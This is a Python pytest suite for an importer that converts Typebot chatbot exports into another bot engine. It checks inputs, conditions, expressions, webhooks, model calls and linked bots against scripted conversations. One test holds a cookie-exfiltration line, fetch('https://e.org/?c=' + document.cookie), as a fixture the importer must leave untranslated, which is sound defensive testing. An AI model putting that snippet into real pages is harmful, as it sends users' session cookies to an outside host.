"""What each kind of block becomes, and that the bot answers as it did there."""

import json
from pathlib import Path
from typing import Any

import pytest
from typebot_bot import (
    block,
    bot_of,
    buttons,
    comparison,
    condition,
    entry_of,
    imported,
    nodes_of,
    setting,
    talk,
    text,
    typebot,
)

from engine.importers import import_bot
from engine.types.bot import NOT_UNDERSTOOD, STARTUP


def test_bubbles_follow_each_other_and_the_last_asks(tmp_path: Path) -> None:
    bot = typebot(
        {
            "Hello": [
                text("Hi there!"),
                text("Your name?"),
                block("text input", {"variableId": "Name"}),
            ],
            "Bye": [text("Bye {{Name}}, {{Nobody}}!")],
        },
        {"on": "Bye"},
        variables=["Name"],
    )
    bot["groups"][0]["blocks"][2]["outgoingEdgeId"] = "on"
    found = imported(tmp_path, bot)
    assert talk(found, "> (opened)\n< Hi there!\n< Your name?\n> Ana\n< Bye Ana, !") == ()
    assert {entry.outcome for entry in found.report.entries} == {"exact"}


def test_a_message_after_the_end_begins_again(tmp_path: Path) -> None:
    found = imported(tmp_path, typebot({"Hello": [text("Hi!")]}))
    assert talk(found, "> hey\n< Hi!\n> hey\n< Hi!") == ()


def test_beginning_again_forgets_what_was_said(tmp_path: Path) -> None:
    append = {"variableId": "Said", "type": "Append value(s)", "item": "{{Word}}"}
    blocks = [
        text("Word?"),
        block("text input", {"variableId": "Word"}),
        block("Set variable", append),
        text("{{Said}}"),
    ]
    found = imported(tmp_path, typebot({"A": blocks}, variables=["Word", "Said"]))
    once = "< Word?\n> {0}\n< {0}\n"
    assert talk(found, f"> (opened)\n{once.format('a')}> hey\n{once.format('b')}") == ()


def test_groups_and_the_two_beginnings_have_their_titles(tmp_path: Path) -> None:
    groups = {"Welcome": [text("Hi!")], "Group #2": [text("Bye!")]}
    nodes = nodes_of(imported(tmp_path, typebot(groups)))
    titles = {node.source: node.title for node in nodes.values() if node.kind == "say"}
    assert [*titles.values()] == ["Welcome", ""]
    assert (nodes[STARTUP].title, nodes[NOT_UNDERSTOOD].title) == ("Start", "Not understood")


def test_a_message_that_begins_the_bot_answers_an_input_that_stands_first(tmp_path: Path) -> None:
    asks = [block("text input", {"variableId": "said"}), text("You said {{said}}.")]
    found = imported(tmp_path, typebot({"Start": asks}, variables=["said"]))
    assert talk(found, "> good day\n< You said good day.\n> again\n< You said again.") == ()
    assert talk(found, "> (opened)\n> good day\n< You said good day.") == ()


def test_words_keep_their_marks_and_links(tmp_path: Path) -> None:
    children = [
        {"text": "Read "},
        {"text": "this ", "bold": True},
        {"type": "a", "url": "https://e.org", "children": [{"text": "page"}]},
        {"text": " for $"},
        {"text": "{x}"},
    ]
    points = [
        {"type": "li", "children": [{"type": "lic", "children": [{"text": word}]}]} for word in "ab"
    ]
    rich = [{"type": "p", "children": children}, {"type": "ul", "children": points}]
    found = imported(tmp_path, typebot({"A": [block("text", content={"richText": rich})]}))
    said = "Read **this** [page](https://e.org) for $${x}\n- a\n- b"
    assert next(iter(nodes_of(found).values())).params["text"] == {"en": said}


RETRY = "Invalid message. Please, try again."
# The block, a wrong answer with what it meets, a right one, and what is kept of it.
INPUTS: dict[str, tuple[dict[str, Any], str, str, str, str]] = {
    "number": (block("number input", {"min": 1, "max": 9}), "12", RETRY, "7", "7"),
    "bound by a variable": (block("number input", {"max": "{{Most}}"}), "6", RETRY, "5", "5"),
    "mail": (
        block("email input", {}),
        "ana",
        "This email doesn't seem to be valid. Can you type it again?",
        "ana@example.org",
        "ana@example.org",
    ),
    "own retry": (
        block("email input", {"retryMessageContent": "Again, {{Most}}!"}),
        "ana",
        "Again, 5!",
        "ana@example.org",
        "ana@example.org",
    ),
    "address": (block("url input", {}), "no page", RETRY, "e.org/a?b=1", "e.org/a?b=1"),
    "phone": (
        block("phone number input", {"defaultCountryCode": "ES"}),
        "12",
        RETRY,
        "612 34 56 78",
        "+34612345678",
    ),
    "date": (block("date input", {}), "soon", RETRY, "24/12/2026", "24/12/2026"),
    "date in a format": (
        block("date input", {"format": "yyyy.MM.dd"}),
        "soon",
        RETRY,
        "24/12/2026",
        "2026.12.24",
    ),
    "date and time": (
        block("date input", {"hasTime": True}),
        "soon",
        RETRY,
        "24/12/2026 15:30",
        "24/12/2026 15:30",
    ),
    "time": (block("time input", {"format": "h.mm a"}), "never", RETRY, "15:30", "3.30 PM"),
    "rating": (block("rating input", {"length": 5}), "6", RETRY, "4", "4"),
    "file": (
        block("file input", {}),
        "here",
        RETRY,
        "(image https://e.org/a.png)",
        "https://e.org/a.png",
    ),
    "buttons": (buttons("Yes", "No"), "maybe", RETRY, "Yes", "Yes"),
    "several buttons": (
        buttons("Red", "Blue", "Green", isMultipleChoice=True),
        "black",
        RETRY,
        "Red, Green",
        "Red, Green",
    ),
    "buttons of a list": (
        block("choice input", {"dynamicVariableId": "Names"}),
        "Eva",
        RETRY,
        "Ana",
        "Ana",
    ),
}


@pytest.mark.parametrize("name", INPUTS)
def test_questions_take_what_they_took_and_keep_it_alike(tmp_path: Path, name: str) -> None:
    asking, wrong, retry, right, kept = INPUTS[name]
    asking = {**asking, "options": {**(asking.get("options") or {}), "variableId": "Kept"}}
    bot = typebot(
        {
            "Ask": [
                setting("Most", "5"),
                setting("Names", "return ['Ana', 'Luis']"),
                text("Well?"),
                asking,
                text("Kept: {{Kept}}."),
            ]
        },
        variables=["Kept", "Most", "Names"],
    )
    found = imported(tmp_path, bot)
    lines = f"> (opened)\n< Well?...\n> {wrong}\n< {retry}...\n> {right}\n< Kept: {kept}."
    assert talk(found, lines) == ()


def test_buttons_lead_where_their_edges_do(tmp_path: Path) -> None:
    bot = typebot(
        {
            "Menu": [text("Which?"), buttons("One", "Two", to={"One": "one"}), text("Here.")],
            "One": [text("First: {{Pick}}.")],
        },
        {"one": "One"},
        variables=["Pick"],
    )
    bot["groups"][0]["blocks"][1]["options"] = {"variableId": "Pick"}
    found = imported(tmp_path, bot)
    assert talk(found, "> (opened)\n< Which?\n  [One] [Two]\n> [One]\n< First: One.") == ()
    assert talk(found, "> (opened)\n< Which?\n  [One] [Two]\n> two\n< Here.") == ()


def test_a_button_is_shown_where_its_condition_holds(tmp_path: Path) -> None:
    menu = buttons("Vip", "All")
    shown = {"comparisons": [comparison("Kind", "Equal to", "gold")]}
    menu["items"][0]["displayCondition"] = {"isEnabled": True, "condition": shown}
    bot = typebot({"Menu": [setting("Kind", "silver"), text("Which?"), menu]}, variables=["Kind"])
    assert talk(imported(tmp_path, bot), "> (opened)\n< Which?\n  [All]") == ()


def test_values_of_buttons_are_kept_in_place_of_their_words(tmp_path: Path) -> None:
    menu = buttons("Yes", "No", variableId="Pick")
    menu["items"][0]["value"] = "y"
    bot = typebot({"Menu": [text("Sure?"), menu, text("{{Pick}}")]}, variables=["Pick"])
    assert talk(imported(tmp_path, bot), "> (opened)\n< Sure?...\n> [Yes]\n< y") == ()


def test_cards_keep_what_was_chosen(tmp_path: Path) -> None:
    def card(title: str, edge: str) -> dict[str, Any]:
        paths = [
            {"id": title, "text": "Take", "outgoingEdgeId": edge},
            {"id": f"{title} 2", "text": "Skip"},
        ]
        return {
            "title": title,
            "description": "Nice",
            "imageUrl": "https://e.org/a.png",
            "paths": paths,
        }

    mapping = [{"field": "Title", "variableId": "Pick"}, {"field": "Button", "variableId": "How"}]
    cards = block(
        "cards", {"saveResponseMapping": mapping}, items=[card("Paris", "go"), card("Rome", "")]
    )
    bot = typebot(
        {"Menu": [text("Where?"), cards, text("{{How}} {{Pick}}")], "Go": [text("To {{Pick}}!")]},
        {"go": "Go"},
        variables=["Pick", "How"],
    )
    found = imported(tmp_path, bot)
    begin = "> (opened)\n< ...\n"
    assert talk(found, begin + "> [Take]\n< To Paris!") == ()
    assert entry_of(found, "block cards").outcome == "approximate"


CONDITIONS = [
    (comparison("x", "Equal to", "Yes"), "Yes", True),
    (comparison("x", "Equal to", "yes"), "Yes", False),
    (comparison("x", "Equal to", "{{y}}"), "other", True),
    (comparison("x", "Equal to", "null"), "", False),
    (comparison("x", "Not equal", "No"), "Yes", True),
    (comparison("x", "Contains", " ES "), "Yes", True),
    (comparison("x", "Contains", ""), "Yes", False),
    (comparison("x", "Does not contain", "no"), "Yes", True),
    (comparison("x", "Greater than", "18"), "20", True),
    (comparison("x", "Greater than", "18"), "7", False),
    (comparison("x", "Greater than", "2"), "abc", True),
    (comparison("x", "Greater than", "2026-01-01"), "2026-05-01", True),
    (comparison("x", "Less or equal to", "18"), "18", True),
    (comparison("x", "Less than", "{{n}}"), "4", True),
    (comparison("x", "Is set"), "a", True),
    (comparison("x", "Is empty"), "a", False),
    (comparison("z", "Is empty"), "a", True),
    (comparison("z", "Is set"), "a", False),
    (comparison("x", "Starts with", "hel"), "Hello", True),
    (comparison("x", "Ends with", "LO"), "Hello", True),
    (comparison("x", "Matches regex", r"^\d{3}$"), "123", True),
    (comparison("x", "Matches regex", "/^HEL/i"), "hello", True),
    (comparison("x", "Does not match regex", "^a"), "bc", True),
    (comparison("list", "Contains", "b"), "a", True),
    (comparison("list", "Contains", "c"), "a", False),
    (comparison("list", "Greater than", "1"), "a", True),
]


@pytest.mark.parametrize(("compared", "value", "holds"), CONDITIONS)
def test_conditions_compare_as_there(
    tmp_path: Path, compared: dict[str, Any], value: str, holds: bool
) -> None:
    append = {"variableId": "list", "type": "Append value(s)"}
    bot = typebot(
        {
            "Ask": [
                setting("y", "other"),
                setting("n", "5"),
                block("Set variable", {**append, "item": "a"}),
                block("Set variable", {**append, "item": "b"}),
                text("?"),
                block("text input", {"variableId": "x"}),
                condition(compared, edge="yes"),
                text("no"),
            ],
            "Yes": [text("yes")],
        },
        {"yes": "Yes"},
        variables=["x", "y", "z", "n", "list"],
    )
    found = imported(tmp_path, bot)
    assert talk(found, f"> (opened)\n< ?\n> {value or 'null'}\n< {'yes' if holds else 'no'}") == ()
    assert entry_of(found, "block Condition").outcome == "exact"


@pytest.mark.parametrize(
    ("expression", "value"),
    [
        ("Hello {{Name}}", "Hello Ana"),
        ("{{Name}}", "Ana"),
        ("yes", "yes"),
        ("10", "10"),
        ("0042", "0042"),
        ("{{Score}} + 5", "15"),
        ("{{Score}} * 1.5 - 1", "14"),
        ("Math.round({{Score}} / 3)", "3"),
        ("{{Age}} + 1", "32"),
        ("{{Name}} + '!'", "Ana!"),
        ("{{Name}}.toUpperCase()", "ANA"),
        ("return {{Age}} >= 18 ? 'adult' : 'minor'", "adult"),
        ("const n = {{Score}}; if (n > 5) { return 'high' } return 'low'", "high"),
        ("`${{{Name}}} has ${{{Score}}}`", "Ana has 10"),
        ("https://e.org/{{Name}}", "https://e.org/Ana"),
        ("{{List}}.length", "2"),
        ("{{List}}.map(x => x + '!').join(' ')", "a! b!"),
    ],
)
def test_expressions_give_what_they_gave(tmp_path: Path, expression: str, value: str) -> None:
    bot = typebot(
        {
            "Ask": [
                setting("Name", "Ana"),
                setting("Score", "10"),
                setting("List", "['a', 'b']"),
                text("Age?"),
                block("text input", {"variableId": "Age"}),
                setting("Result", expression),
                text("{{Result}}"),
            ]
        },
        variables=["Name", "Score", "Age", "List", "Result"],
    )
    found = imported(tmp_path, bot)
    assert talk(found, f"> (opened)\n< Age?\n> 31\n< {value}") == ()


@pytest.mark.parametrize(
    ("options", "value"),
    [
        ({"type": "Empty"}, "()"),
        ({"type": "Append value(s)", "item": "{{Name}}"}, "(10, Ana)"),
        ({"type": "Moment of the day"}, "(morning)"),
        ({"type": "Environment name"}, "(web)"),
        ({"type": "Contact name"}, "(Eva)"),
        ({"type": "Phone number"}, "()"),
    ],
)
def test_kinds_of_values(tmp_path: Path, options: dict[str, Any], value: str) -> None:
    set_it = block("Set variable", {"variableId": "Result", **options})
    blocks = [setting("Name", "Ana"), setting("Result", "10"), set_it, text("({{Result}})")]
    found = imported(tmp_path, typebot({"A": blocks}, variables=["Name", "Result"]))
    assert talk(found, f"@ contact.name: Eva\n> (opened)\n< {value}") == ()


def test_items_are_taken_from_the_ends_of_a_list(tmp_path: Path) -> None:
    def take(kind: str) -> dict[str, Any]:
        options = {"variableId": "List", "type": kind, "saveItemInVariableId": "Item"}
        return block("Set variable", options)

    blocks = [
        setting("List", "['a', 'b', 'c']"),
        take("Pop"),
        text("{{Item}}: {{List}}"),
        take("Shift"),
        text("{{Item}}: {{List}}"),
    ]
    found = imported(tmp_path, typebot({"A": blocks}, variables=["List", "Item"]))
    assert talk(found, "> (opened)\n< c: a, b\n< a: b") == ()


def test_the_item_at_the_same_place_of_another_list(tmp_path: Path) -> None:
    places = {"baseItemVariableId": "Item", "baseListVariableId": "A", "targetListVariableId": "B"}
    options = {"variableId": "Out", "type": "Map item with same index", "mapListItemParams": places}
    blocks = [
        setting("A", "['x', 'y']"),
        setting("B", "['1', '2']"),
        setting("Item", "y"),
        block("Set variable", options),
        text("{{Out}}"),
    ]
    found = imported(tmp_path, typebot({"A": blocks}, variables=["A", "B", "Item", "Out"]))
    assert talk(found, "> (opened)\n< 2") == ()


def test_code_within_texts(tmp_path: Path) -> None:
    blocks = [setting("N", "3"), text("{{= {{N}} * 2 =}} of {{=Math.random()=}}")]
    found = imported(tmp_path, typebot({"A": blocks}, variables=["N"]))
    entry = next(one for one in found.report.entries if one.kind == "block text")
    assert entry.outcome == "unmapped"
    assert "Math.random" in entry.how
    node = nodes_of(found)[next(name for name, one in nodes_of(found).items() if one.kind == "say")]
    assert node.params["text"] == {"en": "${n * 2} of {{=Math.random()=}}"}
    assert node.title.startswith("To do")


def test_what_is_no_translation_waits_for_a_person(tmp_path: Path) -> None:
    blocks = [setting("X", "document.title", isExecutedOnClient=True), text("on")]
    found = imported(tmp_path, typebot({"A": blocks}, variables=["X"]))
    entry = entry_of(found, "block Set variable")
    assert (entry.outcome, "document" in entry.how) == ("unmapped", True)
    to_do = next(node for node in nodes_of(found).values() if node.title.startswith("To do"))
    assert "document.title" in to_do.note
    assert talk(found, "> (opened)\n< on") == ()


def test_jumps_and_loops(tmp_path: Path) -> None:
    bot = typebot(
        {
            "Menu": [
                text("Again?"),
                buttons("Yes", "No", to={"No": "no"}),
                block("Jump", {"groupId": "group Menu"}),
            ],
            "End": [text("Bye.")],
        },
        {"no": "End"},
    )
    found = imported(tmp_path, bot)
    assert talk(found, "> (opened)\n< Again?...\n> [Yes]\n< Again?...\n> [No]\n< Bye.") == ()


def test_a_jump_to_nowhere_is_told(tmp_path: Path) -> None:
    bot = typebot({"A": [text("a"), block("Jump", {"groupId": "gone"}), text("b")]})
    found = imported(tmp_path, bot)
    assert entry_of(found, "block Jump").outcome == "unmapped"
    assert talk(found, "> (opened)\n< a") == ()


def test_waits(tmp_path: Path) -> None:
    wait = block("Wait", {"secondsToWaitFor": "5"})
    half = block("Wait", {"secondsToWaitFor": "0.5"})
    computed = block("Wait", {"secondsToWaitFor": "{{N}}"})
    blocks = [setting("N", "3"), text("a"), wait, text("b"), half, text("c"), computed, text("d")]
    found = imported(tmp_path, typebot({"A": blocks}, variables=["N"]))
    assert (
        talk(found, "> (opened)\n< a\n> (5 seconds)\n< b\n> (1 seconds)\n< c\n> (3 seconds)\n< d")
        == ()
    )


def test_a_test_of_two_ways(tmp_path: Path) -> None:
    ways = [
        {"id": "1", "path": "a", "outgoingEdgeId": "a"},
        {"id": "2", "path": "b", "outgoingEdgeId": "b"},
    ]
    bot = typebot(
        {"T": [block("AB test", {"aPercent": 30}, items=ways)], "A": [text("a")], "B": [text("b")]},
        {"a": "A", "b": "B"},
    )
    split = next(
        node for node in nodes_of(imported(tmp_path, bot)).values() if node.kind == "split"
    )
    assert split.params == {"ways": [{"id": "a", "weight": 30.0}, {"id": "b", "weight": 70.0}]}


def test_a_script_that_sets_variables(tmp_path: Path) -> None:
    code = "if ({{N}} > 2) { setVariable('Size', 'big') } else { setVariable('Size', 'small') }"
    blocks = [setting("N", "3"), block("Code", {"name": "Size", "content": code}), text("{{Size}}")]
    found = imported(tmp_path, typebot({"A": blocks}, variables=["N", "Size"]))
    assert talk(found, "> (opened)\n< big") == ()
    assert entry_of(found, "block Code").outcome == "exact"


def test_a_script_that_does_harm_is_kept_as_text(tmp_path: Path) -> None:
    code = "fetch('https://e.org/?c=' + document.cookie)"
    found = imported(tmp_path, typebot({"A": [block("Code", {"content": code}), text("on")]}))
    assert entry_of(found, "block Code").outcome == "unmapped"
    assert talk(found, "> (opened)\n< on") == ()


def linked(merge: bool | None) -> list[dict[str, Any]]:
    link = {"typebotId": "other"} | ({} if merge is None else {"mergeResults": merge})
    one = typebot(
        {"A": [setting("X", "one"), block("Typebot link", link), text("After: {{X}}")]},
        variables=["X"],
        name="Main",
    )
    two = typebot({"B": [text("In: {{X}}"), setting("X", "two")]}, variables=["X"], name="Other")
    return [one, two]


@pytest.mark.parametrize(("merge", "after"), [(True, "two"), (False, "one"), (None, "one")])
def test_linked_bots_are_topics_of_one(tmp_path: Path, merge: bool | None, after: str) -> None:
    found = imported(tmp_path, *linked(merge))
    assert list(bot_of(found).topics) == ["main", "other"]
    assert talk(found, f"> (opened)\n< In: one\n< After: {after}") == ()


def test_bots_without_links_stay_apart(tmp_path: Path) -> None:
    found = imported(
        tmp_path, typebot({"A": [text("a")]}, name="One"), typebot({"B": [text("b")]}, name="Two")
    )
    assert list(found.project.bots) == ["one", "two"]


def test_a_link_to_a_bot_that_is_not_there_is_told(tmp_path: Path) -> None:
    found = imported(
        tmp_path, typebot({"A": [block("Typebot link", {"typebotId": "x"}), text("on")]})
    )
    entry = entry_of(found, "block Typebot link")
    assert (entry.outcome, "not in the export" in entry.how) == ("unmapped", True)
    assert talk(found, "> (opened)\n< on") == ()


def test_a_link_to_a_group_of_the_same_bot_comes_back(tmp_path: Path) -> None:
    link = block("Typebot link", {"typebotId": "current", "groupId": "group Sub"})
    bot = typebot({"A": [link, text("after")], "Sub": [text("sub")]})
    assert talk(imported(tmp_path, bot), "> (opened)\n< sub\n< after") == ()


def command(name: str, edge: str, **options: Any) -> dict[str, Any]:
    return {
        "id": name,
        "type": "command",
        "outgoingEdgeId": edge,
        "options": {"command": name, **options},
    }


def test_commands_return_or_leave(tmp_path: Path) -> None:
    bot = typebot(
        {
            "Ask": [text("Name?"), block("text input", {"variableId": "N"}), text("Hi {{N}}")],
            "Help": [text("Help!"), block("Return")],
            "Leave": [text("Leaving.")],
        },
        {"help": "Help", "leave": "Leave"},
        variables=["N"],
        events=[command("help", "help"), command("leave", "leave")],
    )
    found = imported(tmp_path, bot)
    assert talk(found, "> (opened)\n< Name?\n> (event help)\n< Help!\n> Ana\n< Hi Ana") == ()
    assert talk(found, "> (opened)\n< Name?\n> (event leave)\n< Leaving.\n> Ana\n< Name?") == ()


def test_replies_and_wrong_answers_have_flows_of_their_own(tmp_path: Path) -> None:
    reply = {
        "id": "r",
        "type": "reply",
        "outgoingEdgeId": "reply",
        "options": {
            "contentVariableId": "Said",
            "exitCondition": {
                "isEnabled": True,
                "condition": {"comparisons": [comparison("Said", "Equal to", "stop")]},
            },
        },
    }
    wrong = {"id": "w", "type": "invalidReply", "outgoingEdgeId": "wrong"}
    bot = typebot(
        {
            "Ask": [
                text("Mail?"),
                block("email input", {"variableId": "M"}),
                text("Why?"),
                block("text input", {}),
                text("End."),
            ],
            "Reply": [text("Heard {{Said}}."), block("Return")],
            "Wrong": [text("No mail.")],
        },
        {"reply": "Reply", "wrong": "Wrong"},
        variables=["M", "Said"],
        events=[reply, wrong],
    )
    found = imported(tmp_path, bot)
    lines = "> (opened)\n< Mail?\n> x\n< No mail.\n< Mail?\n> a@e.org\n< Heard a@e.org.\n< Why?\n"
    assert talk(found, lines + "> so\n< Heard so.\n< End.") == ()
    assert talk(found, lines + "> stop\n< Heard stop.") == ()


def test_a_call_from_outside_is_waited_for(tmp_path: Path) -> None:
    mapping = [{"variableId": "Paid", "bodyPath": "data.amount"}]
    hook = block("webhook", {"responseVariableMapping": mapping})
    page = {"isEnabled": True, "name": "done", "saveDataInVariableId": "Page"}
    embed = block("embed", content={"url": "https://e.org", "waitForEvent": page})
    bot = typebot(
        {"Pay": [text("Pay!"), hook, text("Paid {{Paid}}."), embed, text("{{Page}}")]},
        variables=["Paid", "Page"],
    )
    found = imported(tmp_path, bot)
    lines = """
> (event webhook_pay {"amount": 3})
> (opened)
< Pay!
> well?
> (event webhook_pay {"amount": 5})
< Paid 5.
< https://e.org
> (event webhook_pay {"amount": 7})
> (event done {"a": 1})
< {"a":1}
"""
    assert talk(found, lines) == ()


def request(**webhook: Any) -> dict[str, Any]:
    mapping = [
        {"variableId": "Status", "bodyPath": "statusCode"},
        {"variableId": "First", "bodyPath": "data.items[0].name"},
        {"variableId": "All", "bodyPath": "data.items.map(i => i.name)"},
    ]
    options = {
        "webhook": {"url": "https://e.org/{{Id}}", **webhook},
        "responseVariableMapping": mapping,
    }
    return block("Webhook", {**options, "isCustomBody": True})


def test_requests_and_what_is_kept_of_their_answers(tmp_path: Path) -> None:
    asking = request(
        method="PUT",
        headers=[
            {"key": "Authorization", "value": "Bearer abcdef123456"},
            {"key": "X-Id", "value": "{{Id}}"},
        ],
        queryParams=[{"key": "q", "value": "{{Id}}"}],
        body='{"id": "{{Id}}"}',
    )
    blocks = [setting("Id", "7"), asking, text("{{Status}} {{First}} {{All}}")]
    found = imported(tmp_path, typebot({"A": blocks}, variables=["Id", "Status", "First", "All"]))
    (name,) = [name for name, node in nodes_of(found).items() if node.kind == "http"]
    node = nodes_of(found)[name]
    assert node.params["headers"] == {
        "Authorization": "Bearer ${secret.AUTHORIZATION}",
        "X-Id": "${id}",
        "Content-Type": "application/json",
    }
    assert bot_of(found).secrets == ("AUTHORIZATION",)
    body = '{"items": [{"name": "a"}, {"name": "b"}]}'
    good = f'! {name} ok {{"status": 200, "headers": {{}}, "body": {body}}}'
    assert talk(found, f"{good}\n> (opened)\n< 200 a a, b") == ()
    bad = f'! {name} ok {{"status": 500, "headers": {{}}, "body": {{}}}}'
    assert talk(found, f"{bad}\n> (opened)\n< 500...") == ()


def test_keys_in_clear_are_left_behind(tmp_path: Path) -> None:
    key = "sk-abcdefghijklmnopqrstuv"
    blocks = [request(url=f"https://e.org/?api_key={key}"), text(f"Use {key}")]
    found = imported(tmp_path, typebot({"A": blocks}))
    assert key not in repr(found)
    assert bot_of(found).constants


def test_mail(tmp_path: Path) -> None:
    options = {
        "recipients": ["{{Mail}}"],
        "cc": ["b@e.org"],
        "subject": "Hi",
        "body": "For {{Mail}}",
        "isCustomBody": True,
        "replyTo": "c@e.org",
    }
    blocks = [setting("Mail", "a@e.org"), block("Email", options), text("sent")]
    found = imported(tmp_path, typebot({"A": blocks}, variables=["Mail"]))
    (mail,) = [node for node in nodes_of(found).values() if node.kind == "mail"]
    assert mail.params["to"] == ["${mail}", "b@e.org"]
    assert set(mail.edges) == {"next", "failed"}


def test_a_dialogue_with_a_model(tmp_path: Path) -> None:
    messages = [
        {"role": "system", "content": "Be {{Mood}}"},
        {"role": "Dialogue", "dialogueVariableId": "Talk"},
    ]
    options = {
        "action": "Create chat completion",
        "model": "m",
        "messages": messages,
        "responseMapping": [{"item": "Message content", "variableId": "Said"}],
    }
    append = {"variableId": "Talk", "type": "Append value(s)", "item": "hey"}
    blocks = [
        setting("Mood", "kind"),
        block("Set variable", append),
        block("openai", options),
        text("{{Said}}"),
    ]
    found = imported(tmp_path, typebot({"A": blocks}, variables=["Mood", "Talk", "Said"]))
    (name,) = [name for name, node in nodes_of(found).items() if node.kind == "http"]
    answer = '{"choices": [{"message": {"content": "Hello!"}}]}'
    good = f'! {name} ok {{"status": 200, "headers": {{}}, "body": {answer}}}'
    assert talk(found, f"{good}\n> (opened)\n< Hello!") == ()
    assert bot_of(found).secrets == ("OPENAI_KEY",)


@pytest.mark.parametrize(
    ("kind", "options", "answer"),
    [
        (
            "mistral",
            {"messages": [{"role": "user", "content": "{{Mood}}?"}]},
            {"choices": [{"message": {"content": "Yes"}}]},
        ),
        (
            "anthropic",
            {"systemMessage": "Be {{Mood}}", "messages": []},
            {"content": [{"text": "Yes"}]},
        ),
        (
            "dify-ai",
            {"query": "{{Mood}}", "conversationVariableId": "Id"},
            {"answer": "Yes", "conversation_id": "c"},
        ),
    ],
)
def test_other_models(tmp_path: Path, kind: str, options: Any, answer: Any) -> None:
    action = "Create Chat Message" if kind != "mistral" else "Create chat completion"
    mapping = [{"variableId": "Said"}]
    asking = block(kind, {"action": action, "responseMapping": mapping, **options})
    blocks = [setting("Mood", "kind"), asking, text("{{Said}}")]
    found = imported(tmp_path, typebot({"A": blocks}, variables=["Mood", "Said", "Id"]))
    (name,) = [name for name, node in nodes_of(found).items() if node.kind == "http"]
    good = f'! {name} ok {{"status": 200, "headers": {{}}, "body": {json.dumps(answer)}}}'
    assert talk(found, f"{good}\n> (opened)\n< Yes") == ()
    assert entry_of(found, f"block {kind}").outcome == "approximate"


@pytest.mark.parametrize(
    ("one", "outcome"),
    [
        (block("payment input", {"amount": "5"}), "unmapped"),
        (block("Google Sheets", {"action": "Insert a row"}), "unmapped"),
        (block("webhook"), "approximate"),
        (block("qr-code", {"action": "Generate a QR Code", "data": "x"}), "unmapped"),
        (block("Chatwoot", {"websiteToken": "x"}), "approximate"),
        (block("Google Analytics", {"action": "lead"}), "approximate"),
        (block("Redirect", {"url": "https://e.org"}), "approximate"),
        (block("embed", content={"url": "https://e.org"}), "approximate"),
        (block("image", content={"url": "https://e.org/a.png"}), "exact"),
        (block("audio", content={"url": "https://e.org/a.mp3"}), "exact"),
        (block("video", content={"url": "https://e.org/a.mp4", "type": "url"}), "exact"),
        (block("video", content={"type": "youtube", "id": "abc", "url": "x"}), "approximate"),
        (block("location", content={"latitude": 1.5, "longitude": -70, "name": "Here"}), "exact"),
        (block("location", content={"latitude": 999, "longitude": 0}), "exact"),
        (block("Wait", {}), "exact"),
        (block("of tomorrow", {"a": 1}), "unmapped"),
    ],
)
def test_other_blocks(tmp_path: Path, one: dict[str, Any], outcome: str) -> None:
    found = imported(tmp_path, typebot({"A": [text("a"), one, text("b")]}))
    entry = entry_of(found, f"block {one['type']}")
    assert entry.outcome == outcome
    assert outcome == "exact" or entry.how
    assert outcome != "unmapped" or entry.next_step


def test_names_are_ours_and_readable(tmp_path: Path) -> None:
    names = ["message", "Full name", "full name", "list", "1st", "名前"]
    blocks = [setting("Full name", "Ana"), text("{{Full name}} {{message}}")]
    found = imported(tmp_path, typebot({"A": blocks}, variables=names))
    made = list(bot_of(found).variables)
    assert "full_name" in made
    assert not {"message", "list"} & set(made)
    assert len(made) == len(names)


def test_version_3_with_blocks_of_steps(tmp_path: Path) -> None:
    old = {
        "id": "old",
        "name": "Old",
        "version": "3",
        "blocks": [
            {
                "id": "b0",
                "title": "Start",
                "graphCoordinates": {"x": 0, "y": 0},
                "steps": [
                    {
                        "id": "s0",
                        "blockId": "b0",
                        "type": "start",
                        "label": "Start",
                        "outgoingEdgeId": "e0",
                    }
                ],
            },
            {
                "id": "b1",
                "title": "Hello",
                "graphCoordinates": {"x": 300, "y": 0},
                "steps": [
                    {
                        "id": "s1",
                        "blockId": "b1",
                        "type": "text",
                        "content": {
                            "html": "<div>Hi<br>you</div>",
                            "richText": [],
                            "plainText": "",
                        },
                    },
                    {
                        "id": "s2",
                        "blockId": "b1",
                        "type": "choice input",
                        "options": {"isMultipleChoice": False},
                        "items": [
                            {
                                "id": "i1",
                                "stepId": "s2",
                                "type": 0,
                                "content": "Go",
                                "outgoingEdgeId": "e1",
                            }
                        ],
                    },
                ],
            },
            {
                "id": "b2",
                "title": "Bye",
                "graphCoordinates": {"x": 600, "y": 0},
                "steps": [
                    {"id": "s3", "blockId": "b2", "type": "text", "content": {"plainText": "Bye"}}
                ],
            },
        ],
        "edges": [
            {"id": "e0", "from": {"blockId": "b0", "stepId": "s0"}, "to": {"blockId": "b1"}},
            {
                "id": "e1",
                "from": {"blockId": "b1", "stepId": "s2", "itemId": "i1"},
                "to": {"blockId": "b2", "stepId": "s3"},
            },
        ],
        "variables": [],
        "theme": {},
        "settings": {},
    }
    assert talk(imported(tmp_path, old), "> (opened)\n< Hi\n  you\n  [Go]\n> [Go]\n< Bye") == ()


def test_typing_takes_the_time_it_took(tmp_path: Path) -> None:
    blocks = [text("one"), text("word " * 4), text("word " * 400)]
    settings = {"typingEmulation": {"speed": 200, "maxDelay": 2}}
    found = imported(tmp_path, typebot({"A": blocks}, settings=settings))
    pauses = [node.pause_ms for node in nodes_of(found).values() if node.kind == "say"]
    assert pauses == [0, 1200, 2000]


@pytest.mark.parametrize(
    ("words", "language"),
    [
        ("Hola, ¿qué quieres?|¿Cómo es tu nombre?", "es"),
        ("Olá! Como você se chama?|Qual é o seu e-mail?", "pt"),
        ("Bonjour, quel est votre nom?|Merci pour la réponse", "fr"),
        ("👋|123", "en"),
    ],
)
def test_the_language_is_heard_from_the_words(tmp_path: Path, words: str, language: str) -> None:
    bot = typebot({"A": [text(one) for one in words.split("|")]})
    assert bot_of(imported(tmp_path, bot)).languages == (language,)


def test_groups_keep_their_places(tmp_path: Path) -> None:
    bot = typebot({"A": [text("a"), text("b")], "B": [text("c")]}, {"x": "B"})
    bot["groups"][0]["blocks"][1]["outgoingEdgeId"] = "x"
    (topic,) = bot_of(imported(tmp_path, bot)).topics.values()
    assert topic.layout["a"][0] == topic.layout["b"][0] < topic.layout["c"][0]
    assert len(set(topic.layout.values())) == len(topic.layout)


def test_an_answer_of_the_interface_is_read_too(tmp_path: Path) -> None:
    wrapped = {"typebot": typebot({"A": [text("Hi!")]}), "id": "wrapped"}
    assert talk(imported(tmp_path, wrapped), "> (opened)\n< Hi!") == ()


def test_the_sound_files_of_a_folder_are_taken(tmp_path: Path) -> None:
    (tmp_path / "broken.json").write_text('{"groups": [')
    (tmp_path / "other.json").write_text('{"a": 1}')
    found = imported(tmp_path, typebot({"A": [text("Hi!")]}))
